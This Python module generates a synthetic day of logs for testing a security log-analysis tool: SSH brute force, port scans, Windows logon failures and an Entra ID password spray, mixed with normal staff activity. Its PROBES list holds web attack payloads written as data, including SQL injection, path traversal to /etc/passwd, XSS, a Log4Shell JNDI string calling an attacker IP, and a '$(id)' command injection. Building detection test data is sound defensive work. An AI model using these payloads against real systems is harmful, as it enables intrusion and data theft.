"""A small, fixed day of logs in real formats, for tests and ``bench/ingest`` (distinct lines at any scale).

Benign staff activity plus attempts: SSH brute force, web probes and injection, firewall port scans,
Windows logon failures and Entra ID password spraying. Times are spread over the 24 hours before ``now``.
``garrison simulate`` (``generate.py``) is the whole organisation with serious attacks and a ground truth;
``garrison serve --demo`` uses that one.
"""

from __future__ import annotations

import random
import time
from datetime import datetime, timezone
from pathlib import Path

import orjson

ATTACKERS = ["185.220.101.4", "45.155.205.233", "193.32.162.10", "61.177.172.140", "218.92.0.112", "103.99.0.122"]
STAFF_IPS = [f"10.20.{i // 250}.{i % 250 + 1}" for i in range(400)]
OFFICE_PUBLIC = "81.2.69.160"
USERS = [f"{n}.{s}" for n in ("alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy")
         for s in ("smith", "jones", "brown", "taylor", "wilson")]
PATHS = ["/", "/council-tax", "/bins/collection-days", "/planning/search", "/libraries", "/contact", "/news",
         "/parking/permits", "/jobs", "/static/site.css", "/static/app.js"]
PROBES = ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/admin/config.php",
          "/search?q=1%27%20OR%20%271%27=%271", "/index.php?page=../../../../etc/passwd",
          "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/api?x=${jndi:ldap://45.155.205.233/a}",
          "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"]
AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148"]
SCANNER_AGENTS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
                  "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"]


def _ts(us: int) -> datetime:
    return datetime.fromtimestamp(us / 1_000_000, tz=timezone.utc)


def write_demo_logs(out_dir: str | Path, seed: int = 7, now: float | None = None, scale: int = 1) -> list[Path]:
    rng = random.Random(seed)
    end = int((now or time.time()) * 1_000_000)
    start = end - 86_400_000_000
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)

    def when() -> int:
        return rng.randrange(start, end)

    files: dict[str, list[tuple[int, str]]] = {"auth.log": [], "access.log": [], "firewall.log": [],
                                               "windows-security.json": [], "entra-signin.json": []}
    for _ in range(3000 * scale):  # sshd: admins logging in, attackers guessing
        t = when()
        if rng.random() < 0.1:
            u, ip = rng.choice(["ops", "deploy"]), rng.choice(STAFF_IPS)
            msg = f"Accepted publickey for {u} from {ip} port {rng.randrange(40000, 65000)} ssh2"
        else:
            ip = rng.choice(ATTACKERS)
            u = rng.choice(["root", "admin", "oracle", "test", "ubuntu", "postgres"])
            inv = "invalid user " if u not in ("root",) else ""
            msg = f"Failed password for {inv}{u} from {ip} port {rng.randrange(1024, 65000)} ssh2"
        files["auth.log"].append((t, f"{_ts(t):%b %e %H:%M:%S} web01 sshd[{rng.randrange(1000, 60000)}]: {msg}"))
    for _ in range(8000 * scale):  # web: residents, then scanners
        t = when()
        if rng.random() < 0.85:
            ip, path, agent = f"81.{rng.randrange(2, 250)}.{rng.randrange(256)}.{rng.randrange(1, 255)}", rng.choice(PATHS), rng.choice(AGENTS)
            status = 200 if rng.random() < 0.95 else 404
        else:
            ip, path, agent = rng.choice(ATTACKERS), rng.choice(PROBES), rng.choice(SCANNER_AGENTS)
            status = rng.choice([404, 403, 400])
        files["access.log"].append((t, f'{ip} - - [{_ts(t):%d/%b/%Y:%H:%M:%S} +0000] "GET {path} HTTP/1.1" {status} '
                                       f'{rng.randrange(200, 40000)} "-" "{agent}"'))
    for _ in range(6000 * scale):  # firewall: scans dropped at the edge
        t = when()
        src = rng.choice(ATTACKERS + [f"{rng.randrange(1, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"])
        dpt = rng.choice([22, 23, 445, 3389, 8080, 1433, 5900, rng.randrange(1, 65535)])
        files["firewall.log"].append((t, f"{_ts(t):%b %e %H:%M:%S} fw01 kernel: [UFW BLOCK] IN=eth0 OUT= MAC=00:00:00:00:00:00 "
                                         f"SRC={src} DST={OFFICE_PUBLIC} LEN=44 TTL=241 PROTO=TCP SPT={rng.randrange(1024, 65535)} DPT={dpt} SYN URGP=0"))
    for _ in range(2000 * scale):  # Windows logons
        t = when()
        ok = rng.random() < 0.8
        ev = {"@timestamp": _ts(t).isoformat().replace("+00:00", "Z"), "EventID": 4624 if ok else 4625,
              "Channel": "Security", "Hostname": "DC01.council.local", "SourceName": "Microsoft-Windows-Security-Auditing",
              "TargetUserName": rng.choice(USERS), "TargetDomainName": "COUNCIL", "LogonType": rng.choice(["2", "3", "10"]),
              "IpAddress": rng.choice(STAFF_IPS), "IpPort": str(rng.randrange(1024, 65535)),
              "Status": "0x0" if ok else "0xc000006d"}
        files["windows-security.json"].append((t, orjson.dumps(ev).decode()))
    # Attack bursts, as they really come: a password spray against Entra ID, SSH guessing that succeeds.
    burst = start + rng.randrange(0, 80_000_000_000)
    for i, user in enumerate(USERS):
        t = burst + i * 6_000_000
        ev = {"time": _ts(t).isoformat().replace("+00:00", "Z"), "category": "SignInLogs", "operationName": "Sign-in activity",
              "properties": {"createdDateTime": _ts(t).isoformat().replace("+00:00", "Z"),
                             "userPrincipalName": f"{user}@council.example", "ipAddress": "185.220.101.4",
                             "appDisplayName": "Office 365 Exchange Online", "clientAppUsed": "Browser",
                             "status": {"errorCode": 50126, "failureReason": "Invalid username or password."},
                             "location": {"countryOrRegion": "DE"}}}
        files["entra-signin.json"].append((t, orjson.dumps(ev).decode()))
    guess = start + rng.randrange(0, 80_000_000_000)
    for i in range(25):
        t = guess + i * 2_000_000
        files["auth.log"].append((t, f"{_ts(t):%b %e %H:%M:%S} web01 sshd[{40000 + i}]: Failed password for deploy "
                                     f"from 45.155.205.233 port {50000 + i} ssh2"))
    t = guess + 60_000_000
    files["auth.log"].append((t, f"{_ts(t):%b %e %H:%M:%S} web01 sshd[40100]: Accepted password for deploy "
                                 f"from 45.155.205.233 port 50100 ssh2"))
    for _ in range(2000 * scale):  # Entra ID: staff sign-ins and background failures
        t = when()
        spray = rng.random() < 0.3
        ev = {"time": _ts(t).isoformat().replace("+00:00", "Z"), "category": "SignInLogs", "operationName": "Sign-in activity",
              "properties": {"createdDateTime": _ts(t).isoformat().replace("+00:00", "Z"),
                             "userPrincipalName": f"{rng.choice(USERS)}@council.example",
                             "ipAddress": rng.choice(ATTACKERS) if spray else OFFICE_PUBLIC,
                             "appDisplayName": "Office 365 Exchange Online", "clientAppUsed": "Browser",
                             "status": {"errorCode": 50126 if spray else 0,
                                        **({"failureReason": "Invalid username or password."} if spray else {})},
                             "location": {"countryOrRegion": "DE" if spray else "GB"}}}
        files["entra-signin.json"].append((t, orjson.dumps(ev).decode()))
    paths = []
    for name, rows in files.items():
        rows.sort()
        p = out / name
        p.write_text("\n".join(r for _, r in rows) + "\n")
        paths.append(p)
    return paths
